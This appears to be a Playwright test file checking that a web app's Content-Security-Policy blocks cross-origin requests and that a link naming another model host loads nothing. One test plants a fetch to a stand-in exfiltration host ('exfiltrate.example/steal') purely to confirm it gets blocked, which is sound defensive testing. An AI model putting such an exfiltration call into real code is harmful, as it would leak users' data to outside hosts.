// Untrusted links and what the page may reach: the Content-Security-Policy is on every served page and blocks a
// cross-origin request planted in the page; a link that points the models at another host loads nothing and says why.
import { expect, test } from '@playwright/test';
import { APP_URL } from './helpers';

test('the served page carries the Content-Security-Policy, and a planted cross-origin fetch is blocked', async ({ page }) => {
  const response = await page.goto(APP_URL);
  const csp = response!.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("default-src 'self'");
  expect(csp).toContain("connect-src 'self' https://huggingface.co https://*.huggingface.co https://*.hf.co");
  expect(csp).toContain("object-src 'none'");
  await expect(page.getByTestId('model-geometry')).toHaveAttribute('data-phase', 'ready', { timeout: 120_000 });

  const violation = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true });
        fetch('https://exfiltrate.example/steal?map=1').catch(() => {});
      }),
  );
  expect(violation).toBe('connect-src https://exfiltrate.example/steal?map=1');
});

test('a ?models= link to another host loads nothing from it and says why', async ({ page }) => {
  const hosts = new Set<string>();
  page.context().on('request', (r) => hosts.add(new URL(r.url()).host));
  await page.goto(`/?models=${encodeURIComponent('http://127.0.0.1:9/models')}`);
  await expect(page.getByTestId('notice').filter({ hasText: 'load its models from 127.0.0.1:9' })).toContainText('nothing was loaded from there');
  // The app fell back to the hub, where nothing downloads before the user presses Download.
  await expect(page.getByTestId('models-download')).toHaveText(/^Download models \(1\.\d GB\)$/);
  await page.waitForTimeout(1000);
  expect([...hosts].filter((h) => h !== new URL(page.url()).host)).toEqual([]);
});
